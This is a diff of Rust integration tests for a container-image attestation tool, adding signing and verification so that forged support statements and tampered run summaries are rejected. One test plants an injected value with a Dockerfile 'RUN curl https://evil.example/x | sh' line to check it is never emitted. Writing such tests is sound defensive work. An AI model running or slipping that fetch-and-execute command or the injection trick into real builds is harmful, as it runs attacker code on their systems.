@@ -1364,6 +1364,11 @@ fn attached(reg: &Registry, repo: &str, digest: &str) -> Vec<(String, serde_json
         assert_eq!(m["subject"]["digest"], digest);
         assert_eq!(m["artifactType"], "application/vnd.in-toto+json");
         let st = remote.small_blob_bounded(m["layers"][0]["digest"].as_str().unwrap(), 64 << 20).unwrap();
+        // Signed: a DSSE envelope whose payload is the statement.
+        let st = match m["layers"][0]["mediaType"].as_str().unwrap() {
+            "application/vnd.dsse.envelope.v1+json" => crate::signing::open_envelope(&st).1,
+            _ => st,
+        };
         let st: serde_json::Value = serde_json::from_slice(&st).unwrap();
         assert_eq!(st["_type"], "https://in-toto.io/Statement/v1");
         assert_eq!(st["predicateType"], d["annotations"]["in-toto.io/predicate-type"]);
@@ -1374,8 +1379,8 @@ fn attached(reg: &Registry, repo: &str, digest: &str) -> Vec<(String, serde_json
 }
 
 /// Pushes `support` as a support statement about `repo`'s manifest `digest` (as another
-/// cudalint, or a broken one, would have).
-fn attach_support(reg: &Registry, repo: &str, digest: &str, support: &serde_json::Value) {
+/// cudalint, or a broken one, would have), signed with `key` if given.
+fn attach_support(reg: &Registry, repo: &str, digest: &str, support: &serde_json::Value, key: Option<&Path>) {
     use cudalint::image::attest;
     let reference = parse_reference(&format!("{}/{repo}@{digest}", reg.host())).unwrap();
     let remote = Remote::connect(reference.clone(), &opts(None).registry).unwrap();
@@ -1387,7 +1392,8 @@ fn attach_support(reg: &Registry, repo: &str, digest: &str, support: &serde_json
         media_type: OCI_MANIFEST.into(),
     };
     let st = attest::support_statement(&subject, &reference.whole(), support);
-    attest::push(&remote, &subject, attest::SUPPORT_PREDICATE_TYPE, &st).unwrap();
+    let signer = key.map(|k| cudalint::image::sign::Signer::from_pem_file(k).unwrap());
+    attest::push(&remote, &subject, attest::SUPPORT_PREDICATE_TYPE, &st, signer.as_ref()).unwrap();
 }
 
 #[test]
@@ -1403,6 +1409,9 @@ fn the_support_matrix_is_attested_beside_the_inventory_and_read_back_without_pul
     reg.push(layout.path(), "att/stale:1", None);
     reg.push(layout.path(), "att/bare:1", None);
     let spec = format!("{}/att/stale:1", reg.host());
+    let keys = tempfile::tempdir().unwrap();
+    let (key, public) = crate::signing::keypair(keys.path(), "attester");
+    let verify = public.to_str().unwrap();
 
     // Not a registry image: --attest is refused, not silently left out.
     let o = cli_support(&format!("oci:{}", layout.path().display()), &["--attest"]);
@@ -1410,7 +1419,7 @@ fn the_support_matrix_is_attested_beside_the_inventory_and_read_back_without_pul
     assert!(stderr(&o).contains("--attest needs an image in a registry"), "{}", stderr(&o));
 
     // `support --attest`: the inventory and the support matrix, both referrers of the manifest.
-    let o = cli_support(&spec, &["--attest", "--format", "json"]);
+    let o = cli_support(&spec, &["--attest", "--sign-key", key.to_str().unwrap(), "--format", "json"]);
     assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
     let pushed: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
     let manifest = pushed["image"]["manifest_digest"].as_str().unwrap().to_string();
@@ -1423,38 +1432,43 @@ fn the_support_matrix_is_attested_beside_the_inventory_and_read_back_without_pul
     // Read back through a proxy that counts requests: every format, no layer pulled.
     let proxy = Proxy::start(reg.port);
     let via = format!("{}/att/stale:1", proxy.host());
-    let o = cli_support(&via, &["--from-attestation", "--format", "json"]);
+    let o = cli_support(&via, &["--from-attestation", "--verify-key", verify, "--format", "json"]);
     assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
     let read: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
     assert_eq!(read, pushed);
     assert!(!stderr(&o).contains("note"), "{}", stderr(&o));
-    let o = cli_support(&via, &["--from-attestation"]);
+    let o = cli_support(&via, &["--from-attestation", "--verify-key", verify]);
     assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
     assert!(String::from_utf8_lossy(&o.stdout).contains(pushed["summary"].as_str().unwrap()));
-    let o = cli_support(&via, &["--from-attestation", "--format", "html"]);
+    let o = cli_support(&via, &["--from-attestation", "--verify-key", verify, "--format", "html"]);
     assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
     let html = String::from_utf8_lossy(&o.stdout);
     assert!(html.contains("<table id=\"support\">") && !html.contains("<h2>Coverage</h2>"), "the table alone");
-    let o = cli_support(&via, &["--from-attestation", "--emit", "require"]);
+    let o = cli_support(&via, &["--from-attestation", "--verify-key", verify, "--emit", "require"]);
     assert_eq!(String::from_utf8_lossy(&o.stdout).trim(), pushed["require"].as_str().unwrap());
 
     // Made by another cudalint version: printed as attached, with a note.
     let mut older = pushed.clone();
     older["tool"]["version"] = "0.0.1".into();
-    attach_support(&reg, "att/stale", &manifest, &older);
-    let o = cli_support(&via, &["--from-attestation", "--format", "json"]);
+    attach_support(&reg, "att/stale", &manifest, &older, Some(&key));
+    let o = cli_support(&via, &["--from-attestation", "--verify-key", verify, "--format", "json"]);
     assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
     assert_eq!(serde_json::from_slice::<serde_json::Value>(&o.stdout).unwrap(), older);
     assert!(stderr(&o).contains("made by cudalint 0.0.1"), "{}", stderr(&o));
 
-    // A support statement this cudalint cannot read: judged afresh from the inventory
-    // attestation instead (still no layer pulled).
+    // A support statement this cudalint cannot read, signed: passed over, the newest readable
+    // one shown.
     let mut broken = pushed.clone();
     broken.as_object_mut().unwrap().remove("gpus");
-    attach_support(&reg, "att/stale", &manifest, &broken);
-    let o = cli_support(&via, &["--from-attestation", "--format", "json"]);
+    attach_support(&reg, "att/stale", &manifest, &broken, Some(&key));
+    let o = cli_support(&via, &["--from-attestation", "--verify-key", verify, "--format", "json"]);
     assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
-    assert!(stderr(&o).contains("judged from its inventory attestation instead"), "{}", stderr(&o));
+    assert!(stderr(&o).contains("does not read as this cudalint's support document"), "{}", stderr(&o));
+    assert_eq!(serde_json::from_slice::<serde_json::Value>(&o.stdout).unwrap()["tool"], older["tool"]);
+    // Believing unsigned statements too, the broken one is still passed over.
+    let o = cli_support(&via, &["--from-attestation", "--trust-unsigned", "--format", "json"]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    assert!(stderr(&o).contains("made by cudalint 0.0.1"), "{}", stderr(&o));
     let rejudged: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
     for k in ["summary", "floor", "require", "gpus"] {
         assert_eq!(rejudged[k], pushed[k], "{k}");
@@ -1462,7 +1476,7 @@ fn the_support_matrix_is_attested_beside_the_inventory_and_read_back_without_pul
 
     // No attestation at all: exit 2, naming the image; nothing pulled in its place.
     let bare = format!("{}/att/bare:1", proxy.host());
-    let o = cli_support(&bare, &["--from-attestation"]);
+    let o = cli_support(&bare, &["--from-attestation", "--trust-unsigned"]);
     assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
     for part in ["no usable cudalint support attestation for att/bare@sha256:", "no inventory attestation"] {
         assert!(stderr(&o).contains(part), "{part}: {}", stderr(&o));
@@ -1484,12 +1498,100 @@ fn the_support_matrix_is_attested_beside_the_inventory_and_read_back_without_pul
     assert_ne!(o.status.code(), Some(2), "{}", stderr(&o));
     let types: Vec<String> = attached(&reg, "att/bare", &manifest).into_iter().map(|(t, _)| t).collect();
     assert_eq!(types, [INVENTORY_PREDICATE, SUPPORT_PREDICATE]);
-    let o = cli_support(&bare, &["--from-attestation", "--format", "json"]);
+    let o = cli_support(&bare, &["--from-attestation", "--trust-unsigned", "--format", "json"]);
     assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
     let read: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
     for k in ["summary", "floor", "require", "gpus"] {
         assert_eq!(read[k], pushed[k], "{k}");
     }
+    assert!(read["notes"].to_string().contains("--trust-unsigned"), "{}", read["notes"]);
+    // Those statements are unsigned: with the key they are passed over and the layers read.
+    let o = cli_support(&bare, &["--from-attestation", "--verify-key", verify, "--format", "json"]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    assert!(stderr(&o).contains("judged from its layers instead"), "{}", stderr(&o));
+    let read: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
+    for k in ["summary", "floor", "require", "gpus"] {
+        assert_eq!(read[k], pushed[k], "{k}");
+    }
+}
+
+#[test]
+fn a_forged_support_attestation_is_passed_over_and_never_emitted_raw() {
+    let reg = Registry::start(false, None);
+    let layout = tempfile::tempdir().unwrap();
+    let img = Image::new(vec![(
+        tar(&[Ent::File("usr/lib/libstale.so", read_fixture("../verdict/libstale.so"))]),
+        Comp::Gzip,
+    )]);
+    oci_layout(layout.path(), &[&img]);
+    reg.push(layout.path(), "att/forged:1", None);
+    let spec = format!("{}/att/forged:1", reg.host());
+    let keys = tempfile::tempdir().unwrap();
+    let (key, public) = crate::signing::keypair(keys.path(), "attester");
+    let (stranger, _) = crate::signing::keypair(keys.path(), "stranger");
+    let verify = public.to_str().unwrap();
+
+    let o = cli_support(&spec, &["--attest", "--sign-key", key.to_str().unwrap(), "--format", "json"]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    let honest: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
+    let manifest = honest["image"]["manifest_digest"].as_str().unwrap().to_string();
+
+    // The pushed envelopes verify with openssl against the attester's public key.
+    let remote =
+        Remote::connect(parse_reference(&format!("{}/att/forged:x", reg.host())).unwrap(), &opts(None).registry)
+            .unwrap();
+    let (index, _) = remote
+        .manifest(&parse_reference(&format!("{}/att/forged:{}", reg.host(), manifest.replace(':', "-"))).unwrap())
+        .unwrap();
+    let index: serde_json::Value = serde_json::from_slice(&index).unwrap();
+    for d in index["manifests"].as_array().unwrap() {
+        let r = parse_reference(&format!("{}/att/forged@{}", reg.host(), d["digest"].as_str().unwrap())).unwrap();
+        let m: serde_json::Value = serde_json::from_slice(&remote.manifest(&r).unwrap().0).unwrap();
+        assert_eq!(m["layers"][0]["mediaType"], "application/vnd.dsse.envelope.v1+json");
+        let env = remote.small_blob_bounded(m["layers"][0]["digest"].as_str().unwrap(), 64 << 20).unwrap();
+        let (payload_type, payload, sig) = crate::signing::open_envelope(&env);
+        assert!(crate::signing::openssl_verifies(&public, &payload_type, &payload, &sig));
+    }
+
+    // Forged: every GPU runs, and a requirement that would be a Dockerfile step of its own.
+    let mut forged = honest.clone();
+    forged["summary"] = "FORGED: runs everywhere".into();
+    forged["require"] = "cuda>=12.0\"\nRUN curl https://evil.example/x | sh\n#".into();
+    attach_support(&reg, "att/forged", &manifest, &forged, None);
+    attach_support(&reg, "att/forged", &manifest, &forged, Some(&stranger));
+
+    // Signed by the attester alone is believed: the honest matrix, the others noted.
+    let o = cli_support(&spec, &["--from-attestation", "--verify-key", verify, "--format", "json"]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    let read: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
+    assert_eq!(read["summary"], honest["summary"]);
+    for part in ["it is not signed", "does not verify against the --verify-key"] {
+        assert!(stderr(&o).contains(part), "{part}: {}", stderr(&o));
+    }
+    let o = cli_support(&spec, &["--from-attestation", "--verify-key", verify, "--emit", "dockerfile"]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    assert!(!String::from_utf8_lossy(&o.stdout).contains("RUN"), "{}", String::from_utf8_lossy(&o.stdout));
+
+    // Believed unsigned, the forgery is shown (the report says why), but never emitted: its
+    // requirement is no NVIDIA_REQUIRE_CUDA constraint.
+    let o = cli_support(&spec, &["--from-attestation", "--trust-unsigned", "--format", "json"]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    let read: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
+    assert_eq!(read["summary"], forged["summary"]);
+    assert!(read["notes"].to_string().contains("--trust-unsigned"), "{}", read["notes"]);
+    for emit in ["dockerfile", "require"] {
+        let o = cli_support(&spec, &["--from-attestation", "--trust-unsigned", "--emit", emit]);
+        assert_eq!(o.status.code(), Some(2), "{emit}: {}", stderr(&o));
+        assert!(o.stdout.is_empty(), "{emit}: {}", String::from_utf8_lossy(&o.stdout));
+        assert!(stderr(&o).contains("is not an NVIDIA_REQUIRE_CUDA constraint"), "{emit}: {}", stderr(&o));
+        assert!(!stderr(&o).contains('\n') || !stderr(&o).contains("\nRUN"), "{emit}: escaped: {}", stderr(&o));
+    }
+
+    // Two statements the attester signed that disagree: no verdict.
+    attach_support(&reg, "att/forged", &manifest, &forged, Some(&key));
+    let o = cli_support(&spec, &["--from-attestation", "--verify-key", verify, "--format", "json"]);
+    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
+    assert!(stderr(&o).contains("two signed cudalint support attestations disagree"), "{}", stderr(&o));
 }
 
 /// Pushes an image (its blobs, config and manifest) under `repo:tag`; returns the manifest's
@@ -1685,7 +1787,15 @@ fn artifact_registry(reg: &Registry, work: &Path) -> Artifacts {
     let o = registry_run(
         reg,
         &work.join("store-run"),
-        &["--repo", "app/clean", "--tag", "1", "--analysis-store", &format!("{}/other/analyses", reg.host())],
+        &[
+            "--repo",
+            "app/clean",
+            "--tag",
+            "1",
+            "--analysis-store",
+            &format!("{}/other/analyses", reg.host()),
+            "--trust-unsigned",
+        ],
     );
     assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
     let o = cli_scan(&format!("{}/app/clean:1", reg.host()), &["--attest", "--gpu", "H100", "-o", "/dev/null"]);
@@ -1802,13 +1912,23 @@ fn a_since_run_judges_again_only_what_changed_and_carries_the_rest() {
     let work = tempfile::tempdir().unwrap();
     artifact_registry(&reg, work.path());
     let w = work.path();
+    // Every run signs its summary, and believes only a previous one its key signed.
+    let (key, public) = crate::signing::keypair(w, "runs");
+    let keys = ["--sign-key", key.to_str().unwrap(), "--verify-key", public.to_str().unwrap()];
     let run = |name: &str, extra: &[&str]| {
         let d = w.join(name);
-        let o = registry_run(&reg, &d, extra);
+        let o = registry_run(&reg, &d, &[extra, &keys[..]].concat());
         (o, summary_of(&d), d)
     };
     let since = |s: &serde_json::Value, k: &str| s["since"][k].as_u64().unwrap_or_else(|| panic!("since.{k}: {s}"));
     let (o, first, _) = run("first", &[]);
+    // The signature beside the summary: openssl verifies it over the summary's bytes.
+    use base64::Engine as _;
+    let sig = std::fs::read_to_string(w.join("first/summary.json.sig")).unwrap();
+    let sig = base64::engine::general_purpose::STANDARD.decode(sig.trim()).unwrap();
+    let bytes = std::fs::read(w.join("first/summary.json")).unwrap();
+    let payload_type = "application/vnd.cudalint.registry-summary+json";
+    assert!(crate::signing::openssl_verifies(&public, payload_type, &bytes, &sig));
     assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
     let skipped = verdicts(&first).iter().filter(|(_, st, _)| st == "skipped").count() as u64;
     assert!(first["fingerprint"].as_str().is_some_and(|f| f.starts_with("sha256:")), "{first}");
@@ -1832,6 +1952,51 @@ fn a_since_run_judges_again_only_what_changed_and_carries_the_rest() {
     }
     let text = String::from_utf8_lossy(&o.stdout);
     assert!(text.contains(&format!(": 0 new, 0 changed, 0 judged again, 2 carried, {skipped} skipped")), "{text}");
+
+    // --since believes a summary only where a key signed it, or behind --trust-unsigned.
+    let prev = w.join("first/summary.json");
+    let o = registry_run(&reg, &w.join("nokey"), &["--since", prev.to_str().unwrap()]);
+    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
+    assert!(stderr(&o).contains("--verify-key"), "{}", stderr(&o));
+    // A status flipped to pass by whoever can write the reports volume (the report and the
+    // signature left as they were): with the key, nothing is carried and the failure stands;
+    // believed unsigned, the flip would have passed the gate.
+    let flipped = w.join("flipped");
+    std::fs::create_dir(&flipped).unwrap();
+    for e in std::fs::read_dir(w.join("first")).unwrap() {
+        let e = e.unwrap();
+        std::fs::copy(e.path(), flipped.join(e.file_name())).unwrap();
+    }
+    let mut forged = first.clone();
+    for i in forged["images"].as_array_mut().unwrap().iter_mut().filter(|i| i["status"] == "fail") {
+        i["status"] = "pass".into();
+        i["errors"] = 0.into();
+    }
+    std::fs::write(flipped.join("summary.json"), serde_json::to_vec_pretty(&forged).unwrap()).unwrap();
+    let forged_prev = flipped.join("summary.json");
+    let (o, checked, _) = run("checked", &["--since", forged_prev.to_str().unwrap()]);
+    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
+    assert!(stderr(&o).contains("does not verify"), "{}", stderr(&o));
+    assert_eq!(since(&checked, "carried"), 0, "{checked}");
+    assert_eq!(verdicts(&checked), verdicts(&first));
+    let o = registry_run(&reg, &w.join("believed"), &["--since", forged_prev.to_str().unwrap(), "--trust-unsigned"]);
+    assert_eq!(o.status.code(), Some(0), "unsigned trust carries the flip: {}", stderr(&o));
+    // A report edited under a signed summary: that image alone is judged again.
+    let edited = w.join("edited");
+    std::fs::create_dir(&edited).unwrap();
+    for e in std::fs::read_dir(w.join("first")).unwrap() {
+        let e = e.unwrap();
+        std::fs::copy(e.path(), edited.join(e.file_name())).unwrap();
+    }
+    let victim = first["images"].as_array().unwrap().iter().find(|i| i["status"] == "fail").unwrap();
+    let report = edited.join(victim["report"].as_str().unwrap());
+    let mut r: serde_json::Value = serde_json::from_slice(&std::fs::read(&report).unwrap()).unwrap();
+    r["findings"] = serde_json::json!([]);
+    std::fs::write(&report, serde_json::to_vec(&r).unwrap()).unwrap();
+    let (o, redone, _) = run("redone", &["--since", edited.join("summary.json").to_str().unwrap()]);
+    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
+    assert_eq!((since(&redone, "carried"), since(&redone, "rejudged")), (1, 1), "{redone}");
+    assert_eq!(verdicts(&redone), verdicts(&first));
 
     // The clean tag re-pushed, now failing on H100: it alone is judged again (one layer pulled).
     put_image(&reg, "app/clean", "1", &one_lib_image("libsm100f.so", "usr/lib/libsm100f.so"));
@@ -1970,10 +2135,20 @@ fn command_line_credentials_go_to_the_images_registry_and_never_to_the_analysis_
     let store_repo = format!("{}/cudalint/analyses", store.host());
     let scan_as = |user: &str, pass: &str, extra: &[&str], env: &[(&str, &str)]| {
         let mut c = bare_cudalint(docker.path());
-        c.args(["scan", &spec, "--quiet", "--no-cache", "--format", "inventory", "--analysis-store", &store_repo])
-            .args(["--username", user, "--password-stdin"])
-            .args(extra)
-            .write_stdin(format!("{pass}\n"));
+        c.args([
+            "scan",
+            &spec,
+            "--quiet",
+            "--no-cache",
+            "--format",
+            "inventory",
+            "--analysis-store",
+            &store_repo,
+            "--trust-unsigned",
+        ])
+        .args(["--username", user, "--password-stdin"])
+        .args(extra)
+        .write_stdin(format!("{pass}\n"));
         for (k, v) in env {
             c.env(k, v);
         }
@@ -2030,7 +2205,17 @@ fn command_line_credentials_go_to_the_images_registry_and_never_to_the_analysis_
     // An unscoped environment pair is the command line's: the image's registry, not the store.
     let auths_before = store.auths().len();
     let o = bare_cudalint(docker.path())
-        .args(["scan", &spec, "--quiet", "--no-cache", "--format", "inventory", "--analysis-store", &store_repo])
+        .args([
+            "scan",
+            &spec,
+            "--quiet",
+            "--no-cache",
+            "--format",
+            "inventory",
+            "--analysis-store",
+            &store_repo,
+            "--trust-unsigned",
+        ])
         .env("CUDALINT_REGISTRY_USERNAME", "ci")
         .env("CUDALINT_REGISTRY_PASSWORD", "s3cret")
         .output()
